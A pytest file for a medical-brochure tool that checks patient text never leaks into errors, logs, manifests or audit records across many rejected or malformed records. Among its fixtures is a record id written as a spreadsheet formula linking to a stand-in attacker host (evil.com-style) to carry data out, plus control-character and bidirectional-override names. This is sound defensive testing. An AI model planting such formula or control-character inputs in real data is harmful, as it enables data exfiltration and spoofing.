"""No patient text in anything a failure prints: a record whose every string value carries a
marker is forced through every failure we can provoke (invalid values, an unknown physician, a
note no line can hold, an oversized or malformed file, an unexpected exception) through the
command line, a batch and the JSON API; the marker never appears in stdout, stderr, the server's
log, a manifest's file or message columns, a file name, or the audit log."""

from __future__ import annotations

import csv
import io
import json
import logging
import os
from pathlib import Path

import pytest
from click.testing import CliRunner

from brochure.cli import main

from .conftest import PROJECT, run_cli

MARK = "QZXMARK"


def _record(**changes) -> dict:
    """A valid record whose every free-text value carries the marker."""
    record = dict(id=f"HK-{MARK}", name=f"Ruth {MARK} Okafor", date_of_birth="1950-02-17",
                  visit_date="2026-11-05", knee="left", kl_grade=3, pain=6,
                  symptom_months=14, notes=f"Walk daily. {MARK}")
    record.update(changes)
    return record


def _audit_log() -> str:
    """The audit log's text (every summary made appends a line: issue 18)."""
    path = Path(os.environ["BROCHURE_STATE"]) / "audit" / "audit.jsonl"
    return path.read_text() if path.exists() else ""


@pytest.fixture(autouse=True)
def _audit_log_clean(_own_config):
    """After every test here, whatever it produced: no marker in the audit log."""
    yield
    _clean(_audit_log())


OVERRIDE = dict(override_verdict="evaluation_needed", override_reason=f"Because {MARK}.")

FAILURES = {
    "pain is text": _record(pain=f"{MARK}"),
    "pain is a boolean": _record(pain=True),
    "a date is text": _record(visit_date=f"2026-{MARK}"),
    "a date is a number": _record(visit_date=20261102),
    "an unknown knee": _record(knee=f"{MARK}"),
    "an unknown condition": _record(conditions=[f"{MARK}"]),
    "an unknown verdict": _record(override_verdict=MARK, override_reason=f"x {MARK}"),
    "an override without its reason": _record(override_verdict="good"),
    "an unknown physician": _record(physician=f"dr-{MARK.lower()}"),
    "a name too long": _record(name=MARK * 40),
    "a note too long": _record(notes=MARK * 400),
    "a control character in the name": _record(name=f"Ruth\x1b[2J{MARK}"),
    "a bidirectional override in the name": _record(name=f"Ruth \u202e{MARK}"),
    "a visit before birth": _record(visit_date="1949-01-01"),
    # issue 17: names that print blank or as a tower, ids off the pattern, a stray key
    "a name of invisible characters": _record(name="\u200b\u2060\ufeff\u3164"),
    "an invisible character in the name": _record(name=f"Ruth\u200b{MARK}"),
    "a tower of accents on the name": _record(name=MARK + "\u0301" * 199),
    "an id that is a formula": _record(id=f'=HYPERLINK("http://evil.example/?{MARK}")'),
    "an id that is a name": _record(id=f"Ruth {MARK}"),
    "a stray line read as a key": _record(**{f"Mrs {MARK} daughter phone 555-0199": "called"}),
}

RENDERED = {
    "a note without a space": _record(notes=MARK * 285),
    "a name without a space": _record(name=(MARK * 30)[:200]),
    "a long override reason": _record(**{**OVERRIDE, "override_reason": (MARK + " ") * 60}),
}


def _clean(*texts: str) -> None:
    for text in texts:
        assert MARK not in text and MARK.lower() not in text, text


def _summary_command(folder, record: dict):
    """``brochure summary`` of ``record`` (as a JSON file) into ``folder/out.pdf``."""
    path = folder / "record.json"
    path.write_text(json.dumps(record))
    return run_cli("summary", str(path), "-o", str(folder / "out.pdf"))


@pytest.mark.parametrize("case", sorted(FAILURES))
def test_a_rejected_record_is_reported_without_its_text(tmp_path, case):
    result = _summary_command(tmp_path, FAILURES[case])
    assert result.returncode == 2, result.stderr
    assert ": error: " in result.stderr and "Traceback" not in result.stderr
    _clean(result.stdout, result.stderr)


@pytest.mark.parametrize("case", sorted(RENDERED))
def test_a_hard_record_renders_and_says_nothing_of_it(tmp_path, case):
    result = _summary_command(tmp_path, RENDERED[case])
    assert result.returncode == 0, result.stderr
    assert (tmp_path / "out.pdf").read_bytes().startswith(b"%PDF-")
    _clean(result.stdout, result.stderr)


def test_a_batch_of_every_failure_keeps_patient_text_out_of_its_manifest(tmp_path):
    records = [FAILURES[case] for case in sorted(FAILURES)] + [
        {**RENDERED[case], "id": f"HK-{i}-{MARK}"} for i, case in enumerate(sorted(RENDERED))]
    source = tmp_path / "day.json"
    source.write_text(json.dumps(records))
    out = tmp_path / "out"
    result = run_cli("batch", str(source), "--out", str(out))
    assert result.returncode == 1, result.stderr
    _clean(result.stdout, result.stderr, *(p.name for p in out.rglob("*")))
    rows = list(csv.DictReader(io.StringIO((out / "manifest.csv").read_text())))
    assert len(rows) == len(records)
    assert [row["status"] for row in rows].count("ok") == len(RENDERED)
    for row in rows:
        _clean(row["file"], row["message"], row["verdict"])
    assert len(_audit_log().splitlines()) == len(RENDERED)  # one line per summary, clean


def test_an_unexpected_failure_is_told_by_type_place_and_id_only(tmp_path, monkeypatch):
    """A fault we do not know yet: the renderer raising with the patient's text in its message
    (as ReportLab's LayoutError did), from the command line."""
    def broken(kit, record, assessment, kind=None):
        raise RuntimeError(f"cannot lay out {record.name}: {record.notes}")

    monkeypatch.setattr("brochure.summaries.render_summary_pdf", broken)
    path = tmp_path / "record.json"
    path.write_text(json.dumps(_record()))
    result = CliRunner().invoke(main, ["summary", str(path), "-o", str(tmp_path / "x.pdf")])
    assert result.exit_code == 1
    assert "internal error: RuntimeError" in result.output and "error id" in result.output
    _clean(result.output)


def test_an_unexpected_failure_in_a_batch_is_an_error_row_without_the_text(tmp_path,
                                                                             monkeypatch):
    def broken(kit, record, assessment, kind=None):
        raise RuntimeError(f"cannot lay out {record.name}")

    monkeypatch.setattr("brochure.summaries.render_summary_pdf", broken)
    path = tmp_path / "day.json"
    path.write_text(json.dumps([_record(), _record(id="HK-2", notes=None)]))
    out = tmp_path / "out"
    result = CliRunner().invoke(main, ["batch", str(path), "--out", str(out)])
    assert result.exit_code == 1
    rows = list(csv.DictReader(io.StringIO((out / "manifest.csv").read_text())))
    assert [row["status"] for row in rows] == ["error", "error"]
    assert all("internal error: RuntimeError" in row["message"] for row in rows)
    _clean(result.output, *(row["message"] for row in rows))


def test_the_api_answers_every_failure_without_the_text(caplog):
    from fastapi.testclient import TestClient

    from brochure.project import load_project
    from brochure.web import create_app

    client = TestClient(create_app(load_project(PROJECT)), raise_server_exceptions=False)
    caplog.set_level(logging.DEBUG)
    for case, record in {**FAILURES, **RENDERED}.items():
        for path in ("/api/assess", "/api/summaries"):
            response = client.post(path, json=record)
            assert response.status_code in (200, 422), (case, path, response.status_code)
            if response.headers["content-type"].startswith("application/json"):
                _clean(response.text)
    _clean(caplog.text)


def test_refusals_and_warnings_about_a_folder_say_nothing_of_the_record(tmp_path, monkeypatch):
    """Issue 17's own cases: another patient's file under -o, a replacement under another name
    (summary and batch), an output named like the folder's own files, a full disk."""
    from brochure import batch
    from brochure.errors import Problem
    from brochure.output import WriteError

    def run(*args: str) -> str:
        result = CliRunner().invoke(main, list(args))
        assert "Traceback" not in result.output
        return result.output

    first, other = tmp_path / "first.json", tmp_path / "other.json"
    first.write_text(json.dumps(_record()))
    other.write_text(json.dumps(_record(id="HK-2", date_of_birth="1961-01-01")))
    renamed = tmp_path / "renamed.json"
    renamed.write_text(json.dumps(_record(name=f"Ruth {MARK} Okafor-Bello")))
    target = tmp_path / "w" / "a.pdf"
    outputs = [run("summary", str(first), "-o", str(target)),
               run("summary", str(other), "-o", str(target)),
               run("summary", str(renamed), "-o", str(target)),
               run("summary", str(first), "-o", str(tmp_path / "w" / "manifest.csv"))]
    day = tmp_path / "day.json"
    day.write_text(json.dumps([_record(), _record(id="HK-3", name=f"Ada {MARK}")]))
    outputs.append(run("batch", str(day), "--out", str(tmp_path / "out")))
    day.write_text(json.dumps([_record(name=f"Rita {MARK}"), _record(id="HK-3")]))
    outputs.append(run("batch", str(day), "--out", str(tmp_path / "out")))

    real = batch.write_temporary

    def full(path, data, mode, **options):
        if path.suffix == ".pdf":
            raise WriteError(Problem("cannot write here (No space left on device)", path),
                             "No space left on device")
        return real(path, data, mode, **options)
    monkeypatch.setattr(batch, "write_temporary", full)
    outputs.append(run("batch", str(day), "--out", str(tmp_path / "full")))
    assert "name changed" in (tmp_path / "out" / "manifest.csv").read_text()
    _clean(*outputs, (tmp_path / "out" / "manifest.csv").read_text().replace("HK-" + MARK, ""),
           (tmp_path / "full" / "manifest.csv").read_text().replace("HK-" + MARK, ""))
